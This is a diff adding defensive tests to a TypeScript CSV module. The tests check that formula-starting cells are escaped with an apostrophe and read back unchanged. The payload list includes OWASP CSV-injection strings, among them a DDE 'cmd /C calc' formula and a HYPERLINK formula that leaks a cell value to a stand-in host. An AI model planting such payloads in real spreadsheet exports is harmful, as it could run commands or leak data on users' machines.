@@ -1,7 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { CsvError, CsvReader, parseCsv } from './csv.js';
+import { csvField, CsvError, CsvReader, neutraliseCsvCell, parseCsv, restoreCsvCell, toCsv } from './csv.js';
 
 /** csv-parse, the library Lintas read CSV with before, as the reference. */
 const reference = (text: string, delimiter: string): string[][] => parse(text, { delimiter, relax_column_count: true, skip_empty_lines: false }) as string[][];
@@ -102,5 +102,68 @@ describe('CsvReader', () => {
     expect(() => {
       for (let i = 0; i < 10; i++) reader.push(`1,"${'x'.repeat(30)}`);
     }).toThrow(CsvError);
+  });
+});
+
+/**
+ * OWASP's CSV-injection payloads (and their relatives): each would run as a formula in a
+ * spreadsheet opened on the download. Written, each must begin with an apostrophe (shown as text),
+ * and read back through restoreCsvCell it must be the text it was.
+ */
+const FORMULA_PAYLOADS = [
+  `=cmd|' /C calc'!A0`,
+  '+SUM(1+1)',
+  '-2+3',
+  '@SUM(1+1)',
+  '=HYPERLINK("http://x/?leak="&A2,"x")',
+  '\t=1',
+  '\r=1',
+  '=1+1;=2',
+  `=1+2";=1+2`,
+  `=1+2'" ;,=1+2`,
+  '-',
+  '@',
+  '=',
+  '－2+3',
+  '＝1+1',
+  '＋SUM(1+1)',
+  '＠SUM(1+1)',
+  `'=1+1`,
+  `''+SUM(1)`,
+];
+
+describe('formulas in CSV cells (OWASP CSV injection)', () => {
+  const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+
+  test.each(FORMULA_PAYLOADS)('%j is written as text, quoted, and read back as it was', (payload) => {
+    const written = neutraliseCsvCell(payload);
+    expect(written).toBe(`'${payload}`);
+    expect(csvField(payload)).toBe(`"'${payload.replace(/"/g, '""')}"`);
+    const [record] = parseCsv(toCsv([[payload, 'after']]).toString('utf8').replace(/^\uFEFF/, ''), ',');
+    expect(record?.[0]).toMatch(/^'/);
+    expect(record?.map(restoreCsvCell)).toEqual([payload, 'after']);
+  });
+
+  test('plain numbers, ordinary text and apostrophes before ordinary text are left alone', () => {
+    for (const value of ['-5', '+3.25', '-10.73', '1e-5', '-.5', '0', 'Rote Island', "'quoted", "it's", '', 'a=b', ' =1 ']) {
+      expect(neutraliseCsvCell(value), value).toBe(value);
+      expect(restoreCsvCell(value), value).toBe(value);
+    }
+  });
+
+  test('for any text, no written cell starts a formula, and reading gives back the text', () => {
+    const text = fc.array(fc.oneof(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '＝', '－', '1', '.', 'e', ' ', '"', ','), fc.string({ maxLength: 3 })), { maxLength: 6 }).map((parts) => parts.join(''));
+    fc.assert(
+      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
+        for (const value of cells) {
+          const written = neutraliseCsvCell(value);
+          if (formulaStart.test(written)) expect(written).toMatch(/^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/);
+          expect(restoreCsvCell(written)).toBe(value);
+        }
+        const [record] = parseCsv(toCsv([cells]).toString('utf8').replace(/^\uFEFF/, ''), ',');
+        expect(record?.map(restoreCsvCell)).toEqual(cells);
+      }),
+      { numRuns: 500 },
+    );
   });
 });
